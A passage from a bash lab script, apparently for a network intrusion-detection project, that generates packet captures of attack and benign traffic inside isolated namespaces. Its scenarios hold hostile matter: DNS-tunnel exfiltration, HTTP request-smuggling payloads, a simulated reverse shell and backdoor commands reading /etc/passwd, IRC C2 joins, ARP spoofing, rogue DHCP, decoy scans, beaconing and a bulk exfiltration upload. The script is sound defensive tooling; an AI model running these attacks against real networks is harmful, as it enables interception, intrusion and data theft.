      printf '%s.%d.%s A\n' "$chunk" "$i" "$EXFIL_DOMAIN" >>"$batch"
    fi
    i=$((i + 1))
  done
  # One dig per query, a little apart, as a shell loop would send them.
  local line
  while read -r line; do
    # shellcheck disable=SC2086
    nsx attacker dig +short +tries=1 +time=2 $line >/dev/null 2>&1 || true
    sleep 0.05
  done <"$batch"
  stop_capture
}

# raw_http NAME PRINTF_FORMAT...: one connection carrying a hand-made request.
raw_http() {
  local what="$1"
  shift
  # shellcheck disable=SC2059
  printf "$@" | nsx attacker nc -N -w 3 "$VICTIM" 80 >/dev/null 2>&1 || true
  say "  sent: $what"
  sleep 0.3
}

scn_malformed_http() {
  start_capture malformed_http 0 # full frames: the huge header spans segments
  local H='Host: www.lab.test\r\n'
  raw_http "bad method" 'G3T /index.html HTTP/1.1\r\n'"$H"'\r\n'
  raw_http "unknown method" 'FOOBAR /index.html HTTP/1.1\r\n'"$H"'\r\n'
  raw_http "missing version" 'GET /index.html\r\n'"$H"'\r\n'
  raw_http "bad version" 'GET / HTTP/9.7\r\n'"$H"'\r\n'
  raw_http "header without colon" 'GET / HTTP/1.1\r\n'"$H"'X-Broken-Header no colon here\r\n\r\n'
  raw_http "huge header line" 'GET / HTTP/1.1\r\n'"$H"'X-Padding: %s\r\n\r\n' "$(head -c 12000 /dev/zero | tr '\0' 'A')"
  raw_http "huge request target" 'GET /%s HTTP/1.1\r\n'"$H"'\r\n' "$(head -c 9000 /dev/zero | tr '\0' 'B')"
  raw_http "non-printable bytes in target" 'GET /\x01\x02\x7f\xff HTTP/1.1\r\n'"$H"'\r\n'
  raw_http "NUL byte in header" 'GET / HTTP/1.1\r\n'"$H"'User-Agent: x\x00y\r\n\r\n'
  raw_http "Content-Length with Transfer-Encoding" \
    'POST /api/echo HTTP/1.1\r\n'"$H"'Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG'
  raw_http "two different Content-Lengths" \
    'POST /api/echo HTTP/1.1\r\n'"$H"'Content-Length: 4\r\nContent-Length: 11\r\n\r\nAAAAAAAAAAA'
  raw_http "bare LF line endings and space before colon" 'GET / HTTP/1.1\n'"Host : www.lab.test"'\n\n'
  stop_capture
}

scn_suspicious_ports() {
  # Victim side: a "backdoor" shell port and an IRC port that answer.
  ip netns exec "${P}victim" nc -lk "$VICTIM" 4444 </dev/null >/dev/null 2>&1 &
  local l1=$!
  ip netns exec "${P}victim" nc -lk "$VICTIM" 6667 </dev/null >/dev/null 2>&1 &
  local l2=$!
  ip netns exec "${P}attacker" nc -l "$ATTACKER" 4444 </dev/null >/dev/null 2>&1 &
  local l3=$!
  wait_for 10 "listeners on 4444/6667" listening victim tcp 6667
  wait_for 10 "listener on 4444" listening victim tcp 4444
  wait_for 10 "listener on the attacker" listening attacker tcp 4444
  start_capture suspicious_ports 512
  printf 'id\nuname -a\ncat /etc/passwd\n' | nsx attacker nc -N -w 3 "$VICTIM" 4444 >/dev/null 2>&1 || true
  sleep 0.5
  printf 'NICK bot4242\r\nUSER bot 0 * :bot\r\nJOIN #c2\r\n' | nsx attacker nc -N -w 3 "$VICTIM" 6667 >/dev/null 2>&1 || true
  sleep 0.5
  local port
  for port in 23 31337 9001 12345; do
    nsx attacker nc -w 2 "$VICTIM" "$port" </dev/null >/dev/null 2>&1 || true
    sleep 0.5
  done
  # A reverse shell: the victim calls the attacker's port 4444.
  printf 'reverse shell\n' | nsx victim nc -N -w 3 "$ATTACKER" 4444 >/dev/null 2>&1 || true
  stop_capture
  kill -TERM "$l1" "$l2" "$l3" 2>/dev/null || true
  wait "$l1" "$l2" "$l3" 2>/dev/null || true
}

scn_external_inbound() {
  start_capture external_inbound 512
  # ssh from outside home_net (a login attempt that gives up), MySQL, Postgres.
  nsx outside ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o ConnectTimeout=5 "root@$VICTIM" true </dev/null >/dev/null 2>&1 || true
  sleep 1
  printf '\x0a\x00\x00\x01\x85\xa6\x03\x00' | nsx outside nc -N -w 3 "$VICTIM" 3306 >/dev/null 2>&1 || true
  sleep 1
  nsx outside nc -w 2 "$VICTIM" 5432 </dev/null >/dev/null 2>&1 || true
  stop_capture
}

scn_mixed() {
  start_capture mixed 512
  benign_traffic "$MIXED_SECONDS" 5000 0 &
  local benign=$!
  sleep 15
  nmap_at -Pn -sS -T4 "$VICTIM"
  sleep 10
  hydra_at "$SSH_USER" "ssh://$VICTIM"
  wait "$benign"
  stop_capture
}

# tls_scenario NAME S_CLIENT_VERSION CURL_VERSION_FLAGS...: openssl s_server
# on the victim's port 8443 with the lab CA's certificate for secure.lab.test
# (tests/lab/tls_certs.sh: chosen subject, issuer, serial, validity), then one
# openssl s_client and one curl handshake from the client, full frames.
tls_scenario() {
  local name="$1" sversion="$2"
  shift 2
  local dir="$WORK/tls-lab" host=secure.lab.test
  [[ -f "$dir/chain.pem" ]] || "$HERE/tls_certs.sh" "$dir" "$host"
  ip netns exec "${P}victim" openssl s_server -accept "$VICTIM:8443" \
    -cert "$dir/server.pem" -key "$dir/server.key" -cert_chain "$dir/ca.pem" \
    -www -quiet </dev/null >"$WORK/log/s_server-$name.log" 2>&1 &
  local server=$!
  wait_for 10 "openssl s_server on $VICTIM:8443" listening victim tcp 8443
  start_capture "$name" 0
  printf 'GET / HTTP/1.0\r\n\r\n' | nsx client openssl s_client -connect "$VICTIM:8443" \
    -servername "$host" "$sversion" -alpn http/1.1 -CAfile "$dir/ca.pem" \
    -verify_return_error -ign_eof >"$WORK/log/s_client-$name.log" 2>&1 ||
    die "openssl s_client failed (see $WORK/log/s_client-$name.log)"
  sleep 0.5
  nsx client curl -sS -o /dev/null --max-time 10 --cacert "$dir/ca.pem" \
    --resolve "$host:8443:$VICTIM" "$@" "https://$host:8443/" ||
    die "curl over TLS failed"
  stop_capture
  kill -TERM "$server" 2>/dev/null || true
  wait "$server" 2>/dev/null || true
}

scn_tls12() { tls_scenario tls12 -tls1_2 --tlsv1.2 --tls-max 1.2; }
scn_tls13() { tls_scenario tls13 -tls1_3 --tlsv1.3; }

# http_keepalive: full frames; curl fetching several pages and assets over
# one kept-alive connection (then again asking for compressed bodies), and
# netcat sending two requests in one segment (pipelining).
scn_http_keepalive() {
  local u="http://www.lab.test"
  start_capture http_keepalive 0
  nsx client curl -s --max-time 15 -A "$UA" -o /dev/null "$u/page/${PAGES[0]}.html" \
    -o /dev/null "$u/static/style.css" -o /dev/null "$u/static/app.js" \
    -o /dev/null "$u/img/7.png" -o /dev/null "$u/page/no-such-page.html" ||
    die "curl keep-alive failed"
  nsx client2 curl -s --compressed --max-time 15 -A "$UA" -o /dev/null \
    "http://wiki.lab.test/page/${PAGES[1]}.html" -o /dev/null \
    "http://wiki.lab.test/static/app.js" || die "curl --compressed failed"
  printf 'GET /static/style.css HTTP/1.1\r\nHost: www.lab.test\r\nUser-Agent: pipeline\r\n\r\nGET /page/%s.html HTTP/1.1\r\nHost: www.lab.test\r\nUser-Agent: pipeline\r\nConnection: close\r\n\r\n' \
    "${PAGES[2]}" | nsx client3 nc -N -w 3 "$VICTIM" 80 >/dev/null 2>&1 || true
  stop_capture
}

# dns_tcp: full frames; dig over TCP to the lab resolver, several questions
# on one kept-open connection (A, AAAA, MX, TXT, SRV, CNAME, PTR, NXDOMAIN),
# and a single one.
scn_dns_tcp() {
  start_capture dns_tcp 0
  nsx client dig +tcp +keepopen +tries=1 +time=3 @"$VICTIM" www.lab.test A \
    lab.test MX lab.test TXT _sip._tcp.lab.test SRV docs.lab.test A \
    20.0.99.10.in-addr.arpa PTR nothing.lab.test A www.example.com AAAA \
    >/dev/null || die "dig +tcp failed"
  nsx client2 dig +tcp +tries=1 +time=3 @"$VICTIM" example.com MX >/dev/null ||
    die "dig +tcp failed"
  stop_capture
}

# ---------------------------------------------------------------- issue 23:
# distributed scans, layer 2, DHCP, beacons, exfiltration, LAN chatter.
# These scenarios add namespaces of their own for their duration (add_host),
# so the lab's other captures keep their shape.

# add_host NAME MAC ADDRS ROUTES: a namespace on the bridge for one scenario
# (MAC "" derives it from the first address; ADDRS "" leaves eth0 without
# one, for DHCP clients). Teardown removes it if the scenario does not.
add_host() {
  local name="$1" mac="$2" addrs="$3" routes="$4" addr r
  ip netns add "$P$name"
  NS_NAMES+=("$name")
  nsx "$name" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  nsx "$name" ip link set lo up
  ip link add "p-$name" netns "${P}sw" type veth peer name eth0 netns "$P$name"
  nsx sw ip link set "p-$name" master br0 up
  [[ -n "$mac" ]] || { addr="${addrs%% *}"; mac="$(mac_for "${addr%/*}")"; }
  nsx "$name" ip link set eth0 address "$mac"
  nsx "$name" ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1 || true
  for addr in $addrs; do nsx "$name" ip addr add "$addr" dev eth0; done
  nsx "$name" ip link set eth0 up
  for r in $routes; do nsx "$name" ip route add "$r" dev eth0; done
  mkdir -p "/etc/netns/$P$name"
  printf 'nameserver %s\nsearch lab.test\noptions timeout:2 attempts:1\n' "$VICTIM" >"/etc/netns/$P$name/resolv.conf"
}

# drop_host NAME...: stops what runs in the namespaces and removes them.
drop_host() {
  local name pids deadline
  for name in "$@"; do
    pids="$(ip netns pids "$P$name" 2>/dev/null)"
    # shellcheck disable=SC2086
    [[ -n "$pids" ]] && kill -TERM $pids 2>/dev/null
    deadline=$((SECONDS + 5))
    while [[ -n "$(ip netns pids "$P$name" 2>/dev/null)" ]] && ((SECONDS < deadline)); do sleep 0.1; done
    pids="$(ip netns pids "$P$name" 2>/dev/null)"
    # shellcheck disable=SC2086
    [[ -n "$pids" ]] && kill -KILL $pids 2>/dev/null
    ip netns del "$P$name" 2>/dev/null || true
    rm -rf "/etc/netns/$P$name"
  done
}

# web_server NS ADDR [PORT] [TLS_PORT]: the lab web server, waited for
# (its pid in WEB_PID).
WEB_PID=""
web_server() {
  local ns="$1" addr="$2" port="${3:-80}" tls="${4:-}" deno args=()
  deno="$(command -v deno)"
  args=(--host "$addr" --port "$port")
  [[ -n "$tls" ]] && args+=(--tls-port "$tls" --cert "$WORK/tls/cert.pem" --key "$WORK/tls/key.pem")
  DENO_NO_UPDATE_CHECK=1 ip netns exec "$P$ns" "$deno" run --allow-net \
    --allow-read="$WORK/tls" "$HERE/http_server.ts" "${args[@]}" >>"$WORK/log/web-$ns.log" 2>&1 &
  WEB_PID=$!
  wait_for 60 "web server on $addr:$port" listening "$ns" tcp "$port"
  [[ -z "$tls" ]] || wait_for 60 "web server on $addr:$tls" listening "$ns" tcp "$tls"
}

# scan_distributed: five scouts split one scan of 50 ports of the victim,
# 10 ports each (the per-source threshold is 15).
scn_scan_distributed() {
  local i pids=()
  for i in 1 2 3 4 5; do add_host "scout$i" "" "10.99.0.$((70 + i))/24" ""; done
  start_capture scan_distributed 512
  for i in 1 2 3 4 5; do
    nsx "scout$i" nmap -n -Pn -sS -T4 -p "$((i * 10 - 9))-$((i * 10))" "$VICTIM" \
      >>"$WORK/log/nmap.log" 2>&1 &
    pids+=($!)
  done
  wait "${pids[@]}"
  stop_capture
  drop_host scout1 scout2 scout3 scout4 scout5
}

# scan_decoy: nmap hides its SYN scan of 100 ports among four decoys.
scn_scan_decoy() {
  start_capture scan_decoy 512
  nmap_at -Pn -sS -T4 -p 1-100 -D 10.99.0.201,10.99.0.202,ME,10.99.0.203,10.99.0.204 "$VICTIM"
  stop_capture
}

# arp_spoof: a gateway (10.99.0.1) routes to a web server outside
# (192.0.2.80, behind it on a link of its own). The client browses through
# it; then the attacker poisons both with arpspoof and forwards (man in the
# middle) while the client keeps browsing; arpspoof restores on exit.
scn_arp_spoof() {
  local i spoof
  add_host gw "" "10.99.0.1/24" ""
  ip netns add "${P}web"
  NS_NAMES+=(web)
  ip link add eth1 netns "${P}gw" type veth peer name eth0 netns "${P}web"
  nsx gw ethtool -K eth1 tx off tso off gso off gro off >/dev/null 2>&1 || true
  nsx web ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1 || true
  nsx gw ip addr add 192.0.2.1/24 dev eth1
  nsx gw ip link set eth1 up
  nsx gw sysctl -qw net.ipv4.ip_forward=1
  nsx web ip link set lo up
  nsx web ip addr add 192.0.2.80/24 dev eth0
  nsx web ip link set eth0 up
  nsx web ip route add default via 192.0.2.1
  web_server web 192.0.2.80 80
  nsx client ip route add 192.0.2.0/24 via 10.99.0.1
  nsx attacker sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 \
    net.ipv4.conf.eth0.send_redirects=0
  start_capture arp_spoof 256
  RANDOM=2301
  for i in 1 2 3; do
    pick "${PAGES[@]}"
    nsx client curl -s -o /dev/null --max-time 10 -A "$UA" "http://192.0.2.80/page/$PICK.html" || true
    think 5 10
  done
  # ip netns exec execs arpspoof, so $! is arpspoof itself (nsx in the
  # background would be a subshell, and killing it would leave arpspoof).
  ip netns exec "${P}attacker" arpspoof -i eth0 -r -t "$CLIENT" 10.99.0.1 \
    >>"$WORK/log/arpspoof.log" 2>&1 &
  spoof=$!
  for i in 1 2 3 4 5 6 7 8; do
    think 10 15
    pick "${PAGES[@]}"
    nsx client curl -s -o /dev/null --max-time 10 -A "$UA" "http://192.0.2.80/page/$PICK.html" || true
  done
  kill -TERM "$spoof" # it re-ARPs the true addresses before it exits
  wait "$spoof" || true
  stop_capture
  nsx client ip route del 192.0.2.0/24 via 10.99.0.1 || true
  nsx attacker sysctl -qw net.ipv4.ip_forward=0 net.ipv4.conf.all.send_redirects=1 \
    net.ipv4.conf.eth0.send_redirects=1
  drop_host web gw
}

# dhcp_conf NAME FIRST LAST ROUTER DNS LEASE: a dnsmasq DHCP-only config.
dhcp_conf() {
  cat >"$WORK/dhcp-$1.conf" <<CONF
port=0
interface=eth0
bind-interfaces
dhcp-range=$2,$3,255.255.255.0,$6
dhcp-option=option:router,$4
dhcp-option=option:dns-server,$5
dhcp-leasefile=$WORK/run/dhcp-$1.leases
dhcp-authoritative
pid-file=$WORK/run/dhcp-$1.pid
log-dhcp
CONF
}

# dhclient_once NS: one DHCP exchange with ISC dhclient (no script: the
# lease is only recorded, the namespace's address is left alone).
dhclient_once() {
  local pid
  : >"$WORK/log/dhclient-$1.log"
  ip netns exec "$P$1" dhclient -1 -d -v -sf /bin/true -lf "$WORK/run/$1.leases" \
    -pf "$WORK/run/$1.pid" eth0 >>"$WORK/log/dhclient-$1.log" 2>&1 &
  pid=$!
  wait_for 30 "a DHCP lease in $1" grep -q "bound to" "$WORK/log/dhclient-$1.log"
  kill -TERM "$pid" 2>/dev/null || true
  wait "$pid" 2>/dev/null || true
}

# rogue_dhcp: the network's DHCP server (10.99.0.2) leases to a dhclient
# client; then a rogue dnsmasq (10.99.0.77) comes up handing out itself as
# router and DNS, and a udhcpc client and the dhclient client ask again.
scn_rogue_dhcp() {
  add_host dhcpd "" "10.99.0.2/24" ""
  add_host rogue "" "10.99.0.77/24" ""
  add_host dhcpc1 02:99:00:00:dc:01 "" ""
  add_host dhcpc2 02:99:00:00:dc:02 "" ""
  dhcp_conf real 10.99.0.150 10.99.0.169 10.99.0.1 "$VICTIM" 2m
  dhcp_conf rogue 10.99.0.170 10.99.0.189 10.99.0.77 10.99.0.77 2m
  start_capture rogue_dhcp 512
  ip netns exec "${P}dhcpd" dnsmasq -k -C "$WORK/dhcp-real.conf" >"$WORK/log/dhcp-real.log" 2>&1 &
  wait_for 20 "DHCP server on 10.99.0.2" listening dhcpd udp 67
  dhclient_once dhcpc1
  ip netns exec "${P}rogue" dnsmasq -k -C "$WORK/dhcp-rogue.conf" >"$WORK/log/dhcp-rogue.log" 2>&1 &
  wait_for 20 "rogue DHCP server on 10.99.0.77" listening rogue udp 67
  sleep 1
  nsx dhcpc2 timeout 30 udhcpc -i eth0 -f -n -q -s /bin/true -t 5 -T 2 \
    >>"$WORK/log/udhcpc.log" 2>&1 || true
  rm -f "$WORK/run/dhcpc1.leases"
  dhclient_once dhcpc1
  stop_capture
  drop_host dhcpc1 dhcpc2 rogue dhcpd
}

# beacon: client3 checks in with a web server outside (203.0.113.66:8080)
# every 5 s with ±1 s of jitter, the same small request every time.
scn_beacon() {
  local i n="${LAB_BEACON_COUNT:-30}" web
  web_server outside "$OUTSIDE" 8080
  web=$WEB_PID
  start_capture beacon 512
  RANDOM=2305
  for ((i = 0; i < n; i++)); do
    nsx client3 curl -s -o /dev/null --max-time 5 -A "Mozilla/5.0" \
      "http://$OUTSIDE:8080/api/status" || true
    think 40 21
  done
  stop_capture
  kill -TERM "$web" 2>/dev/null || true
  wait "$web" 2>/dev/null || true
}

# exfil_upload: client2 talks to an outside HTTPS service it uses (small
# requests), then uploads 12 MB over TLS to an address never used before
# (192.0.2.99, on-link outside home_net).
scn_exfil_upload() {
  local i web
  add_host drop "" "192.0.2.99/24" "10.99.0.0/24"
  web_server drop 192.0.2.99 80 443
  web_server outside "$OUTSIDE" 8081 8443
  web=$WEB_PID
  nsx client2 ip route add 192.0.2.0/24 dev eth0
  { openssl enc -aes-128-ctr -nosalt -K 0f0e0d0c0b0a09080706050403020100 \
    -iv 00000000000000000000000000000000 </dev/zero 2>/dev/null || true; } |
    head -c 12582912 >"$WORK/data/upload.bin"
  start_capture exfil_upload 96
  for i in 1 2 3 4 5 6; do
    nsx client2 curl -sk -o /dev/null --max-time 10 -H 'content-type: application/json' \
      --data '{"note":"sync","seq":'"$i"'}' "https://$OUTSIDE:8443/api/echo" || true
    sleep 0.5
  done
  nsx client2 curl -sk -o /dev/null --max-time 60 --data-binary "@$WORK/data/upload.bin" \
    "https://192.0.2.99/api/echo"
  stop_capture
  nsx client2 ip route del 192.0.2.0/24 dev eth0 || true
  kill -TERM "$web" 2>/dev/null || true
  wait "$web" 2>/dev/null || true
  drop_host drop
}

# avahi_in NS NAME: an mDNS responder (avahi-daemon without D-Bus) in NS;
# its pid and socket directory is a tmpfs of the command's own mount
# namespace, so several daemons run side by side.
avahi_in() {
  cat >"$WORK/avahi-$1.conf" <<CONF
[server]
host-name=$2
domain-name=local
use-ipv4=yes
use-ipv6=no
allow-interfaces=eth0
enable-dbus=no
[publish]
publish-workstation=yes
publish-addresses=yes
[reflector]
[rlimits]
CONF
  ip netns exec "$P$1" sh -c "mount -t tmpfs none /run/avahi-daemon && exec avahi-daemon -f '$WORK/avahi-$1.conf' --no-drop-root --no-chroot --no-rlimits" \
    >"$WORK/log/avahi-$1.log" 2>&1 &
  LAN_PIDS+=($!)
}

# chrony_conf NAME LINES...: a chronyd config that never touches the clock
# files of the host.
chrony_conf() {
  local name="$1"
  shift
  { printf '%s\n' "$@"
    printf 'cmdport 0\nbindcmdaddress /\npidfile %s\ndriftfile %s\n' \
      "$WORK/run/chrony-$name.pid" "$WORK/run/chrony-$name.drift"; } >"$WORK/chrony-$name.conf"
}

# lan_chatter SEED SECONDS: SSDP announcements and searches, mDNS
# questions, the sounds of a home network between the services.
lan_chatter() {
  local secs="$2" end ns
  RANDOM="$1"
  end=$((SECONDS + secs))
  while ((SECONDS < end)); do
    case $((RANDOM % 3)) in
      0)
        nsx farm bash -c 'printf "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=1800\r\nLOCATION: http://10.99.0.100:49152/desc.xml\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\nSERVER: Linux/5.10 UPnP/1.0 tv/1.0\r\nUSN: uuid:2f402f80-da50-11e1-9b23-0299aa630064::upnp:rootdevice\r\n\r\n" >/dev/udp/239.255.255.250/1900' 2>/dev/null || true
        ;;
      1)
        pick client client2 client3
        nsx "$PICK" bash -c 'printf "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n" >/dev/udp/239.255.255.250/1900' 2>/dev/null || true
        ;;
      2)
        pick client client2 admin
        ns="$PICK"
        pick _workstation._tcp.local _http._tcp.local _services._dns-sd._udp.local
        nsx "$ns" dig +tries=1 +time=1 -p 5353 @224.0.0.251 "$PICK" PTR >/dev/null 2>&1 || true
        ;;
    esac
    think 30 70
  done
}

# benign_lan (LAB_LAN_SECONDS, 180) and benign_lan_holdout
# (LAB_LAN_HOLDOUT_SECONDS, 120; other seeds): the office actors, plus what a
# home LAN carries besides: mDNS responders (avahi-daemon) on four hosts with
# their IGMP joins, SSDP, an NTP server (chronyd on the victim) polled by
# two clients every 16 s, a DHCP server with a client renewing a 2-minute
# lease, and the admin's interactive ssh sessions.
scn_benign_lan() { lan_capture benign_lan "${LAB_LAN_SECONDS:-180}" 7000; }
scn_benign_lan_holdout() { lan_capture benign_lan_holdout "${LAB_LAN_HOLDOUT_SECONDS:-120}" 8000; }

LAN_PIDS=()
# lan_capture NAME SECONDS SEED_BASE
lan_capture() {
  local name="$1" secs="$2" seed="$3" ns ntpd
  add_host dhcpd "" "10.99.0.2/24" ""
  add_host dhcpc1 02:99:00:00:dc:01 "" ""
  dhcp_conf real 10.99.0.150 10.99.0.169 10.99.0.1 "$VICTIM" 2m
  for ns in client client2 client3 admin farm; do nsx "$ns" ip route add 224.0.0.0/4 dev eth0; done
  chrony_conf server "allow 10.99.0.0/24" "local stratum 8" "port 123"
  chrony_conf client "server $VICTIM iburst minpoll 4 maxpoll 4" "port 0"
  chrony_conf client2 "server $VICTIM iburst minpoll 4 maxpoll 4" "port 0"
  ip netns exec "${P}victim" chronyd -x -d -u root -f "$WORK/chrony-server.conf" \
    >"$WORK/log/chrony-server.log" 2>&1 &
  ntpd=$!
  wait_for 20 "NTP server on $VICTIM:123" listening victim udp 123
  ip netns exec "${P}dhcpd" dnsmasq -k -C "$WORK/dhcp-real.conf" >"$WORK/log/dhcp-real.log" 2>&1 &
  wait_for 20 "DHCP server on 10.99.0.2" listening dhcpd udp 67
  if [[ ! -d /run/avahi-daemon ]]; then mkdir -m 755 /run/avahi-daemon && CREATED_RUN_AVAHI=1; fi
  start_capture "$name" 512
  avahi_in client lab-laptop
  avahi_in client2 lab-phone
  avahi_in admin lab-admin
  avahi_in farm lab-printer
  ip netns exec "${P}client" chronyd -x -d -u root -f "$WORK/chrony-client.conf" \
    >"$WORK/log/chrony-client.log" 2>&1 &
  LAN_PIDS+=($!)
  ip netns exec "${P}client2" chronyd -x -d -u root -f "$WORK/chrony-client2.conf" \
    >"$WORK/log/chrony-client2.log" 2>&1 &
  LAN_PIDS+=($!)
  # With its script this time: the client takes the address, so it renews
  # by unicast every minute as a real one does (the namespace's own
  # resolv.conf and routes are all it changes).
  ip netns exec "${P}dhcpc1" dhclient -d -v -lf "$WORK/run/dhcpc1.leases" \
    -pf "$WORK/run/dhcpc1.pid" eth0 >>"$WORK/log/dhclient-dhcpc1.log" 2>&1 &
  LAN_PIDS+=($!)
  lan_chatter "$((seed + 7))" "$secs" &
  benign_traffic "$secs" "$seed" 0
  wait $! || true
  kill -TERM "${LAN_PIDS[@]}" 2>/dev/null || true
  wait "${LAN_PIDS[@]}" 2>/dev/null || true
  LAN_PIDS=()
  stop_capture
  kill -TERM "$ntpd" 2>/dev/null || true
  wait "$ntpd" 2>/dev/null || true
  for ns in client client2 client3 admin farm; do nsx "$ns" ip route del 224.0.0.0/4 dev eth0 || true; done
  drop_host dhcpc1 dhcpd
}

# benign_daily_a/_b/_c (LAB_DAILY_SECONDS, 150; seeds 9000, 9100, 9200):
# held-out normal days for the anomaly model (never trained on). The office
# actors, plus what tripped the model before: long interactive ssh sessions
# and one-shot commands, a large download, software updates (APT's user
# agent, index files then packages over one keep-alive connection, as apt
# does), a large ssh copy, and a video call's shape (iperf3 UDP both ways at
# a steady rate to an outside relay on 3478, the TURN port).
# benign_train (LAB_TRAIN_SECONDS, 300; seed 9500): the same day's mix with
# other seeds, the anomaly model's second training capture (ml/README.md).
scn_benign_train() { daily_capture benign_train 9500 "${LAB_TRAIN_SECONDS:-300}"; }
scn_benign_daily_a() { daily_capture benign_daily_a 9000; }
scn_benign_daily_b() { daily_capture benign_daily_b 9100; }
scn_benign_daily_c() { daily_capture benign_daily_c 9200; }

APT_UA="Debian APT-HTTP/1.3 (2.6.1)"

software_update() { # ns: apt update then a few packages, one connection
  local ns="$1" urls=() n i
  urls=(-o /dev/null "http://files.lab.test/files/4.bin" -o /dev/null "http://files.lab.test/files/$((60 + RANDOM % 100)).bin")
  n=$((2 + RANDOM % 5))
  for ((i = 0; i < n; i++)); do urls+=(-o /dev/null "http://files.lab.test/files/$((10 + RANDOM % 150)).bin"); done
  nsx "$ns" curl -s --max-time 60 --limit-rate 4M -A "$APT_UA" "${urls[@]}" || true
}

# media SECONDS: 160-byte frames every 20 ms (an RTP voice stream's pace)
media() {
  local end=$((SECONDS + $1))
  while ((SECONDS < end)); do
    head -c 160 /dev/urandom
    sleep 0.02
  done
}

# video_call NS SECONDS: one UDP 5-tuple carrying frames both ways at a
# steady pace, as a call through a relay (TURN, port 3478) does; the relay
# (netcat) answers the caller's first frame and hangs up a second early, so
# neither side sends into a closed port.
video_call() {
  local port=$((3478 + RANDOM % 4)) relay
  { media "$(($2 - 1))" | nsx inet timeout "$(($2 + 5))" nc -u -l "$UPSTREAM_DNS" "$port" \
    >/dev/null 2>&1; } &
  relay=$!
  wait_for 10 "the call relay on $UPSTREAM_DNS:$port" listening inet udp "$port"
  media "$2" | nsx "$1" timeout "$(($2 + 2))" nc -u "$UPSTREAM_DNS" "$port" >/dev/null 2>&1 || true
  wait "$relay" 2>/dev/null || true
}

ssh_copy() { # ns KiB: a large file fetched over ssh
  nsx "$1" env SSH_ASKPASS="$WORK/bin/askpass" SSH_ASKPASS_REQUIRE=force \
    ssh "${ssh_opts[@]}" "$SSH_USER@$VICTIM" "head -c $(($2 * 1024)) /dev/zero" \
    </dev/null >/dev/null 2>&1 || true
}

# actor_daily NS SEED SECONDS: a person's sessions, updates, downloads, a call.
actor_daily() {
  local ns="$1" secs="$3" end r
  RANDOM="$2"
  end=$((SECONDS + secs))
  while ((SECONDS < end)); do
    r=$((RANDOM % 100))
    if ((r < 25)); then
      ssh_interactive "$ns"
    elif ((r < 45)); then
      ssh_command "$ns"
    elif ((r < 60)); then
      software_update "$ns"
    elif ((r < 72)); then
      download "$ns" "$((1024 + RANDOM % 1024))"
    elif ((r < 82)); then
      ssh_copy "$ns" "$((256 + RANDOM % 512))"
    elif ((r < 90)); then
      video_call "$ns" "$((10 + RANDOM % 10))"
    else
      lookups "$ns"
    fi
    think 10 40
  done
}

# daily_capture NAME SEED_BASE
daily_capture() {
  local name="$1" seed="$2" secs="${3:-${LAB_DAILY_SECONDS:-150}}" pids=()
  # 256 bytes a frame: headers and the start of every request; the model's
  # features use wire lengths, so they are those of full frames.
  start_capture "$name" 256
  actor_daily client3 "$((seed + 11))" "$secs" & pids+=($!)
  actor_daily admin "$((seed + 12))" "$secs" & pids+=($!)
  benign_traffic "$secs" "$seed" 0
  wait "${pids[@]}" || true
  stop_capture
}

# ---------------------------------------------------------------- main

main() {
  if [[ "${1:-}" == --list ]]; then printf '%s\n' "${ALL_SCENARIOS[@]}"; exit 0; fi
  local up=0 scenarios=() s
  if [[ "${1:-}" == --up ]]; then up=1; shift; fi
  if (($# == 0)); then scenarios=("${ALL_SCENARIOS[@]}"); else scenarios=("$@"); fi
  for s in "${scenarios[@]}"; do
    declare -F "scn_$s" >/dev/null || die "Unknown scenario \"$s\" (see --list)"
  done
  check_tools
  WORK="$(mktemp -d /tmp/netsentinel-lab.XXXXXX)"
  trap teardown EXIT
  trap 'exit 130' INT
  trap 'exit 143' TERM
  build_network
  write_configs
  start_services
  if ((up)); then
    say "lab up; namespaces ${P}*; press Ctrl-C to tear down"
    while :; do sleep 60 & wait $! || true; done
  fi
  mkdir -p "$OUT"
  for s in "${scenarios[@]}"; do
    say "scenario $s"
    "scn_$s"
  done
  say "done:"
  for s in "${scenarios[@]}"; do
    printf '%-20s %8s packets %9s bytes\n' "$s.pcap" "$(packet_count "$OUT/$s.pcap")" "$(stat -c %s "$OUT/$s.pcap")"
  done
}

main "$@"
